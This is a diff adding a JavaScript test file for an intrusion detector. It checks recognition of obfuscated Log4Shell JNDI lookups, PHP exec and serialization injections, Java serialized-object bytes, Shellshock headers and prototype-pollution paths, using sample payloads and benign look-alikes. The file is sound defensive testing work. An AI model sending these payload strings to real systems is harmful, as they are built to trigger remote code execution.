@@ -1,0 +1,62 @@
+// biome-ignore-all lint/suspicious/noTemplateCurlyInString: the payloads are literal `${…}` text, not templates
+import assert from "node:assert/strict";
+import { describe, it } from "node:test";
+import fc from "fast-check";
+import { findSerialized } from "./java.js";
+import { detectLog4j } from "./log4shell.js";
+import { detectPhp } from "./php.js";
+import { detectProto, detectShellshock } from "./scripting.js";
+
+describe("log4j lookups", () => {
+  it("resolves nested lookups to jndi", () => {
+    for (const v of [
+      "${jndi:ldap://h/a}",
+      "${${lower:J}ndi:dns://h}",
+      "${${::-j}${::-n}${::-d}${::-i}:rmi://h}",
+      "$${env:X:-${env:Y:-$}{jndi:ldap://h/}}}",
+    ]) {
+      assert.equal(detectLog4j(v)?.signature, "rce.log4shell-jndi", v);
+    }
+  });
+  it("ignores templates and shell parameters", () => {
+    assert.equal(detectLog4j("${price}"), null);
+    assert.equal(detectLog4j("${HOME:-/root}"), null);
+  });
+  it("never throws", () => {
+    fc.assert(
+      fc.property(fc.string({ maxLength: 200 }), (s) => void detectLog4j(`\${${s}`)),
+      { numRuns: 1000 },
+    );
+  });
+});
+
+describe("php", () => {
+  it("finds calls through comments and variable functions", () => {
+    assert.ok(detectPhp("exec /* x */ ('id')", true));
+    assert.ok(detectPhp("$f = 'x'; $f('id');", true));
+    assert.ok(detectPhp('O:8:"stdClass":0:{}', true));
+    assert.equal(detectPhp("the system (which I like) works", true), null);
+    assert.equal(detectPhp("Cost $5 (approx.)", true), null);
+  });
+});
+
+describe("java serialization magic", () => {
+  it("finds AC ED 00 05 at every base64 alignment", () => {
+    for (const pre of [[], [0], [0, 0]]) {
+      const b64 = Buffer.from([...pre, 0xac, 0xed, 0, 5, 0x73, 0x72]).toString("base64");
+      assert.ok(findSerialized(b64, b64.toLowerCase()), b64);
+    }
+  });
+});
+
+describe("shellshock and prototype pollution", () => {
+  it("needs the function definition at the start", () => {
+    assert.ok(detectShellshock("() { :; }; echo x"));
+    assert.equal(detectShellshock("call f() { return 1 }"), null);
+  });
+  it("flags __proto__ as a key path", () => {
+    assert.ok(detectProto("a[__proto__][x]", "a[__proto__][x]", true));
+    assert.ok(detectProto("constructor[prototype][x]", "constructor[prototype][x]", true));
+    assert.equal(detectProto("the constructor of the house", "the constructor of the house", false), null);
+  });
+});
